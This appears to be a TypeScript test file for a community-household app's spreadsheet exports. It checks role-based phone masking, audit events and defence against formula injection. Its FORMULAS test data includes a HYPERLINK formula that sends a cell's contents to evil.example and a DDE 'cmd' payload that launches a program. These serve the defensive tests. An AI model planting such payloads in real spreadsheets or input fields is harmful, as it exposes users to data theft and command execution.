// What the personal-data exports disclose, and the trace they leave:
// - every export of households, tasks, visits and demands is an audit event — who, which project,
//   the filter, how many rows — written before the file is handed out;
// - the households export carries full phone numbers only to who may import the project's roster
//   (its secretary: the round trip needs them); the district official's file and a group
//   leader's carry them masked (DOMAIN.md "Disclosure and masking");
// - text that Excel would take for a formula (= + - @ at the start) is kept as it was typed and
//   written as a string cell: the sheets have no formula element at all, and exceljs reads the
//   same text back as a string (OWASP's CSV-injection guidance, for .xlsx).
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { beforeAll, describe, expect, it } from "vitest";
import type { Actor } from "@/lib/auth/actor";
import { db } from "@/lib/db";
import { exportDemands } from "@/lib/server/demands/export-demands";
import { exportHouseholds } from "@/lib/server/households/export-households";
import { exportTasks } from "@/lib/server/tasks/export-tasks";
import { exportVisits } from "@/lib/server/visits/export-visits";
import { createAuthorizationWorld, ROLES, type AuthorizationWorld, type RoleName } from "../support/authorization-world.ts";

const PHONE = "13812340001";
const MASKED = "138****0001";
/** What a spreadsheet would run if it took these cells for formulas. */
const FORMULAS = {
  headName: '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  lane: "+SUM(1,1)",
  room: "-2+3",
  address: "@SUM(1+1)黄浦区福佑路",
  note: "=1+1",
  summary: "=cmd|' /C calc'!A0",
  description: "@SUM(A1:A9)",
  tab: "\t=1+1",
};

let world: AuthorizationWorld;
let projectId: string;
let household: { id: string; code: string };

beforeAll(async () => {
  world = await createAuthorizationWorld();
  projectId = world.projectA.project.id;
  household = world.householdA1;
  await db().household.update({
    where: { id: household.id },
    data: { phone: PHONE, headName: FORMULAS.headName, lane: FORMULAS.lane, room: FORMULAS.room, address: FORMULAS.address },
  });
  const author = world.actors.leaderA1.userId;
  await db().task.create({
    data: { projectId, householdId: household.id, assigneeId: author, kind: "HOME_VISIT", dueDate: new Date(), note: FORMULAS.note },
  });
  await db().visitLog.create({
    data: {
      projectId,
      householdId: household.id,
      authorId: author,
      visitedAt: new Date(),
      channel: "DOOR",
      summary: FORMULAS.summary,
      nextStep: FORMULAS.tab,
    },
  });
  await db().demand.create({
    data: { projectId, householdId: household.id, category: "OTHER", description: FORMULAS.description, raisedById: author },
  });
});

async function bytesOf(file: Uint8Array | ReadableStream<Uint8Array>): Promise<Buffer> {
  return file instanceof Uint8Array ? Buffer.from(file) : Buffer.from(await new Response(file).arrayBuffer());
}

/** Every cell's text of the first sheet, and whether any worksheet holds a formula element. */
async function readXlsx(bytes: Buffer): Promise<{ strings: Map<string, ExcelJS.ValueType>; formulaElements: number }> {
  const zip = await JSZip.loadAsync(bytes);
  let formulaElements = 0;
  for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/.*\.xml$/.test(n))) {
    formulaElements += ((await zip.file(name)!.async("string")).match(/<f[\s>/]/g) ?? []).length;
  }
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const strings = new Map<string, ExcelJS.ValueType>();
  workbook.worksheets[0]!.eachRow((row) =>
    row.eachCell((cell) => {
      if (typeof cell.value === "string" || cell.type === ExcelJS.ValueType.Formula) strings.set(String(cell.value), cell.type);
    }),
  );
  return { strings, formulaElements };
}

async function lastExportEvent(action: string, actor: Actor) {
  return db().auditEvent.findFirstOrThrow({
    where: { action, actorId: actor.userId, projectId },
    orderBy: { createdAt: "desc" },
  });
}

describe("the households export", () => {
  // The roles that may export project A (the others are refused: tests/integration/authorization/households.test.ts).
  const phones: Partial<Record<RoleName, string>> = { districtOfficial: MASKED, secretaryA: PHONE, leaderA1: MASKED };

  it("carries the full phone only to the project's secretary, and records each export", async () => {
    for (const role of ROLES) {
      const expected = phones[role];
      if (!expected) continue;
      const actor = world.actors[role];
      const file = await exportHouseholds(actor, { projectId, q: household.code });
      const { strings } = await readXlsx(await bytesOf(file.stream));
      expect(strings.has(expected), role).toBe(true);
      expect(strings.has(expected === PHONE ? MASKED : PHONE), role).toBe(false);
      const event = await lastExportEvent("export:household", actor);
      expect(event, role).toMatchObject({
        entity: "project",
        entityId: projectId,
        after: { rows: 1, filter: expect.stringContaining(`q=${household.code}`), phones: expected === PHONE ? "full" : "masked" },
      });
    }
  });

  it("writes formula-like names and addresses as the text they are, in string cells", async () => {
    const file = await exportHouseholds(world.actors.secretaryA, { projectId });
    const { strings, formulaElements } = await readXlsx(await bytesOf(file.stream));
    expect(formulaElements).toBe(0);
    for (const text of [FORMULAS.headName, FORMULAS.lane, FORMULAS.room, FORMULAS.address]) {
      expect(strings.get(text), text).toBe(ExcelJS.ValueType.String);
    }
    expect((await lastExportEvent("export:household", world.actors.secretaryA)).after).toMatchObject({ rows: file.count, phones: "full" });
  });
});

describe("the tasks, visits and demands exports", () => {
  const exports = {
    "export:task": async (actor: Actor) => {
      const file = await exportTasks(actor, { projectId });
      return { count: file.count, bytes: await bytesOf(file.body), text: [FORMULAS.note, FORMULAS.address] };
    },
    "export:visit": async (actor: Actor) => {
      const file = await exportVisits(actor, { projectId });
      return { count: file.count, bytes: await bytesOf(file.stream), text: [FORMULAS.summary, FORMULAS.headName, FORMULAS.tab] };
    },
    "export:demand": async (actor: Actor) => {
      const file = await exportDemands(actor, { projectId });
      return { count: file.count, bytes: await bytesOf(file.body), text: [FORMULAS.description, FORMULAS.headName, FORMULAS.address] };
    },
  };

  for (const [action, run] of Object.entries(exports)) {
    it(`${action}: one audit event per export with its row count; formula-like text in string cells`, async () => {
      for (const role of ["districtOfficial", "secretaryA", "leaderA1"] as const) {
        const actor = world.actors[role];
        const before = await db().auditEvent.count({ where: { action, actorId: actor.userId } });
        const { count, bytes, text } = await run(actor);
        expect(await db().auditEvent.count({ where: { action, actorId: actor.userId } }), role).toBe(before + 1);
        expect((await lastExportEvent(action, actor)).after, role).toMatchObject({ rows: count, filter: expect.any(String) });
        expect(count, role).toBeGreaterThan(0);
        const { strings, formulaElements } = await readXlsx(bytes);
        expect(formulaElements, role).toBe(0);
        for (const t of text) expect(strings.get(t), `${role} ${t}`).toBe(ExcelJS.ValueType.String);
      }
    });
  }

  it("a refused export leaves no event", async () => {
    const member = world.actors.memberA1;
    await expect(exportTasks(member, { projectId })).rejects.toMatchObject({ code: "FORBIDDEN" });
    await expect(exportHouseholds(world.actors.secretaryB, { projectId })).rejects.toMatchObject({ code: "NOT_FOUND" });
    expect(
      await db().auditEvent.count({
        where: { action: { startsWith: "export:" }, actorId: { in: [member.userId, world.actors.secretaryB.userId] } },
      }),
    ).toBe(0);
  });
});
